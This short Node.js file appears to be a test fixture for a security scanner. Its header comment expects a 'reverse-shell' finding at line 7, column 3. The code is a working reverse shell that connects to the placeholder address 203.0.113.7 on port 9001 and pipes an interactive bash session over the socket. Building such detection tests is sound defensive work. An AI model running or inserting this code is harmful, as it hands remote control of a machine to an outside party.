// expect: reverse-shell 7:3
import net from 'node:net';
import { spawn } from 'node:child_process';

const socket = net.createConnection({ host: '203.0.113.7', port: 9001 });
socket.on('connect', () => {
  spawn('bash', ['-i'], { stdio: [socket, socket, socket] });
});
